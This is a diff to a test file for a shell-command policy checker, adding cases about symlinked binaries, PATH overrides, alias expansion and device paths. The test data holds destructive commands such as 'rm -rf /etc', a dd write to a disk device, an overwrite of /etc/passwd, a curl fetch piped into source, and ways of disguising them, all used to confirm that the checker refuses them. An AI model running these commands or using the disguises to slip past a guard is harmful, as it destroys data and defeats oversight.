@@ -192,6 +192,37 @@ describe('a program is judged as what it is, not what it is called', () => {
     for (const script of ["alias ls='ls --color'\nls /etc", "alias ll='rm -rf'\nunalias ll\nll /etc", "alias a=b\nalias b=a\na"]) expect((await check(script)).exitCode, script).toBe(0);
   });
 
+  it('takes a program that acts as the name it is run by for that name, and a copy behind a harmless link for what it copies', async () => {
+    // Here /sbin/reboot links to systemctl, which reboots when run as reboot.
+    expect((await check('/sbin/reboot')).exitCode).toBe(77);
+    copyFileSync('/bin/rm', join(project, 'foo'));
+    chmodSync(join(project, 'foo'), 0o755);
+    symlinkSync('foo', join(project, 'echo'));
+    symlinkSync('echo', join(project, 'x'));
+    expect((await check('./x -rf /etc')).exitCode).toBe(77);
+  });
+
+  it('never takes a name the policy judges for a milder file on a PATH the command set: another PATH may find the real one', async () => {
+    mkdirSync(join(project, 'bin'));
+    symlinkSync('/bin/echo', join(project, 'bin/rm'));
+    for (const script of ['export PATH=$PWD/bin:$PATH; doas rm -rf /etc', 'PATH=./bin:$PATH command -p rm -rf /etc', 'export PATH=$PWD/bin:$PATH; bash -lc "rm -rf /etc"']) expect((await check(script)).exitCode, script).toBe(77);
+  });
+
+  it('expands an alias with the command\'s redirections, pipes and assignments, after time, and after an alias ending in a blank', async () => {
+    for (const script of [
+      'alias e=echo\ne hi > /etc/passwd',
+      "alias p=sh\necho 'rm -rf /etc' | p",
+      "alias sudo='sudo '\nalias r='rm -rf'\nsudo r /etc",
+      "alias q='rm -rf'\ntime q /etc",
+      "alias clean='sh -c \"rm -rf ${T:-./build}\"'\nT=/etc clean",
+    ]) expect((await check(script)).exitCode, script).toBe(77);
+    expect((await check("alias ll='ls -la'\n\\ll /etc")).exitCode).toBe(0);
+  });
+
+  it('never takes a device for a stamped name\'s folder, however the path is spelled', async () => {
+    for (const script of ['dd if=/dev/zero of=/./dev/nvme$(id -u)n1', 'dd if=/dev/zero of=/proc/self/root/dev/nvme$(id -u)n1']) expect((await check(script)).exitCode, script).toBe(77);
+  });
+
   it('allows a file named rm that is really echo: it prints', async () => {
     symlinkSync('/bin/echo', join(project, 'rm'));
     const result = await check('./rm -rf /');
@@ -213,13 +244,14 @@ describe('plainly safe idioms stay allowed', () => {
     'eval "$(pyenv init -)"',
     'source <(kubectl completion bash)',
     'eval "$(direnv hook bash)"',
+    'eval "$(dircolors -b ~/.dircolors)"',
   ])('%s', async (script) => {
     const result = await check(script);
     expect(result.stderr).toBe('');
     expect(result.exitCode).toBe(0);
   });
 
-  it.each(['source <(kubectl completion bash; curl -s https://example.com/x.sh)', 'eval "$(helm completion bash) rm -rf /"', 'eval "$(kubectl delete ns prod)"'])(
+  it.each(['source <(kubectl completion bash; curl -s https://example.com/x.sh)', 'eval "$(helm completion bash) rm -rf /"', 'eval "$(kubectl delete ns prod)"', 'eval "$(./pyenv init -)"'])(
     'still refuses shell setup with something else in it: %s',
     async (script) => {
       expect((await check(script)).exitCode).toBe(77);
